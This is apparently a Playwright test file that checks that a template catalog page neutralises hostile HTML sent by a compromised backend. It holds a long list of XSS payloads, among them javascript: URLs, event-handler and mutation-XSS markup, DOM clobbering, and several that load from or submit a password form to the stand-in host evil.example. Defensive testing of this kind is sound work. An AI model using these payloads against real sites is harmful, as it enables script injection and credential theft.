import { toLine } from "../../src/features/catalog/api/parse";
import { expect, mockMarket, test } from "../kit/browser";
import { open, push } from "../kit/navigation";
import { english } from "../kit/translations";

const image = "<img src=x onerror=xss()>";
const evil = "https://evil.example/";
const depth = 1_000;
const addresses =
	"javascript:xss()|JaVaScRiPt:xss()|&#1;&#14; javascript:xss()|java\tscript:xss()|java&#10;script:xss()|java\0script:xss()|java&Tab;script&NewLine;&colon;xss&lpar;&rpar;|vbscript:xss()|data:text/html;base64,PHNjcmlwdD5vcGVuZXIueHNzKCk8L3NjcmlwdD4=|blob:https://evil.example/1|//evil.example/|\\\\evil.example\\x";
const rawTextElements = ["noscript", "noembed", "xmp", "textarea", "title", "iframe", "style"];

/** Attacks that a compromised market could send in any field. They try to call `xss()`, to send a request to `evil.example`, to leave the page, or to break it. */
const vectors = [
	...addresses.split("|").map((address) => `<a href="${address}">link</a>`),
	...rawTextElements.map((name) => `<${name}><p title="</${name}>${image}"></${name}>`),
	// Event handlers, and what runs by itself
	image,
	"<svg/onload=xss()//",
	"<details open ontoggle=xss()><summary>more</summary></details>",
	"<p tabindex=1 autofocus onfocus=xss() onmouseover=xss() onclick=xss()>text</p>",
	"<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=xss()>text</p>",
	"<video><source src=x onerror=xss()></video><audio src=x onerror=xss() autoplay></audio>",
	"<button popovertarget=pop>open</button><div popover id=pop onbeforetoggle=xss()>text</div>",
	"<script>xss()</script><scr<script>ipt>xss()</scr</script>ipt>",
	`<script type=speculationrules>{"prefetch":[{"urls":["${evil}p"],"eagerness":"immediate"}]}</script>`,
	`<a href="https://good.example/" target="___gatsby" rel="opener" ping="${evil}" download="setup.exe">link</a>`,
	'<svg><a xlink:href="javascript:xss()"><text y="20">link</text></a></svg>',
	'<math href="javascript:xss()"><mi>link</mi></math>',
	'<form action="javascript:xss()"><input type=image src=x formaction=javascript:xss()></form>',
	// Markup that changes when it is parsed again
	"<svg><script>&#120;ss()</script><animate onbegin=xss() attributeName=x dur=1s></svg>",
	`<svg></p><style><a id="</style>${image}">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=xss()&gt;">`,
	`<form><math><mtext></form><form><mglyph><style></math>${image}</style></mglyph></mtext></math></form>`,
	`<plaintext>${image}`,
	`<div><template shadowrootmode=open>${image}<slot></slot></template>text</div>`,
	`<select><template><style><!--</style><a rel="--></style></template></select>${image}">`,
	`<x-y is="x-z" onclick=xss()>${image}</x-y><o:p onclick=xss()>text</o:p>`,
	// Other documents, requests and styles
	`<iframe srcdoc="<script>parent.xss()</script>"></iframe><iframe src="${evil}"></iframe>`,
	`<object data="javascript:xss()"></object><embed src="${evil}x.swf">`,
	`<base href="${evil}"><meta http-equiv="refresh" content="0;url=${evil}">`,
	`<link rel="stylesheet" href="${evil}a.css"><link rel=preconnect href=${evil}>`,
	`<style>@import "${evil}a.css"; body { display: none }</style><p style="background:url(${evil}a.png)">text</p>`,
	'<div style="position:fixed;inset:0;z-index:999999;background:#fff">cover</div>',
	`<table background="${evil}a.png"><tr><td background="${evil}b.png">cell</table>`,
	`<img src="${evil}a.png" srcset="${evil}b.png 2x"><svg><image href="${evil}a.png"/></svg>`,
	`<video poster="${evil}a.png" src="${evil}a.mp4" autoplay></video><img src='${evil}?`,
	`<form action="${evil}"><input name=password autofocus><button formaction="${evil}">send</button><textarea name=x>`,
	// Ids and names that shadow properties
	'<div id="___gatsby">text</div><div id="gatsby-focus-wrapper">text</div><p id="content">text</p>',
	"<img name=cookie><form name=body></form><img name=currentScript><img name=createElement>",
	"<form onclick=xss()><input name=parentNode><input name=nodeName><input name=attributes></form>",
	"<a id=DOMPurify></a><form id=trustedTypes><input name=createPolicy></form><a id=localStorage></a>",
	// Broken markup
	"<img src=x onerror=xss() ",
	`<!-->${image}--><!-- --!>${image} --><![CDATA[>${image}]]><?php xss() ?>`,
	`\ufeff\ud800\u202e${image}\udfff\u2066`,
	"&lt;img src=x onerror=xss()&gt;&amp;lt;script&amp;gt;xss()",
	`${"<div>".repeat(depth)}${image}`,
	`<p ${Array.from({ length: depth }, (_, index) => `a${index}=1`).join(" ")} onclick=xss()>text</p>`,
	`${"</div></main></body></html>".repeat(50)}${image}`,
];

/** A template with the vector in every field. */
const template = (vector: string, id: string | number) => ({
	...{ id, title: vector, description: `<p>Start ${id}.</p>${vector}`, script_count: 1 },
	...{ author: { name: vector, role: vector }, languages: [vector, "Java"] },
});

/** Scripts with the vectors as their ids, names and codes. */
const data = vectors.map((vector, index) => ({ script: { id: vector + index, name: vector, releaseCode: vector } }));

/** Runs in the page: provokes handlers, and returns the markup of a description that has no place there. */
function findUnsafe(description: Element): string[] {
	const tags =
		/^(a|b|blockquote|br|code|d[dlt]|div|em|h[2-6]|hr|i|kbd|li|mark|ol|p|pre|s|small|span|strong|su[bp]|table|t(body|d|foot|h|head|r)|u|ul)$/;
	const isSafe = (element: Element) =>
		tags.test(element.localName) &&
		[...element.attributes].every(({ name }) => /^(href|title|lang|dir|colspan|rowspan|target|rel)$/.test(name)) &&
		(!element.hasAttribute("href") || element.matches("[href^=http], [href^=mailto], [href^=tel]")) &&
		(!element.hasAttribute("href") || element.matches("[target=_blank][rel~=noopener]"));
	const elements = [...description.querySelectorAll("*")].slice(0, 400);
	for (const type of ["mouseover", "focus", "keydown", "toggle", "animationstart", "click"]) {
		for (const element of elements.filter((each) => !each.matches("a")))
			element.dispatchEvent(new MouseEvent(type, { bubbles: true }));
	}
	return elements.filter((element) => !isSafe(element)).map((element) => element.outerHTML);
}

test("hostile texts in every field have no effect", async ({ page, context, consoleErrors }) => {
	consoleErrors.allow(/Content Security Policy directive/);
	const effects: string[] = [];
	const record = (effect: string) => void effects.push(effect);
	await page.exposeFunction("xss", () => record("xss()"));
	await context.route(
		(url) => url.hostname !== "localhost" || url.pathname.endsWith("/x"),
		(route) => {
			record(route.request().url());
			return route.abort();
		},
	);
	await mockMarket(page, {
		list: { body: vectors.map((vector, index) => template(vector, index + 1)) },
		detail: (id) => ({ body: { ...template(vectors[Number(id) - 1] ?? "", id), data } }),
	});
	await open(page, "/templates/");
	const cards = page.getByRole("article");
	await expect(cards).toHaveCount(vectors.length);
	const titles = await cards.evaluateAll((all) => all.map((card) => card.querySelector("h2")?.textContent));
	expect(titles).toEqual(vectors.map(toLine));
	context.on("page", (opened) => record(`opens ${opened.url()}`));
	page.on("domcontentloaded", () => record(`loads ${page.url()}`));

	const description = page.getByRole("region", { name: english.template.description });
	for (const [index, vector] of vectors.entries()) {
		await push(page, `/template/${index + 1}/`);
		await expect(description).toHaveText(new RegExp(`^Start ${index + 1}\\.`));
		expect.soft(await description.evaluate(findUnsafe), vector).toEqual([]);
	}
	await page.getByRole("tab").last().click();
	const rows = page.locator("[role=tabpanel] button[aria-expanded]");
	await expect(rows).toHaveCount(vectors.length);
	expect(await rows.evaluateAll((all) => all.map((row) => row.textContent))).toEqual(vectors.map(toLine));
	for (const [index, code] of vectors.entries()) {
		await rows.nth(index).evaluate((row) => (row as HTMLElement).click());
		await expect.poll(() => page.locator("pre").evaluate((pre) => pre.textContent)).toBe(code);
	}
	expect(effects).toEqual([]);
});
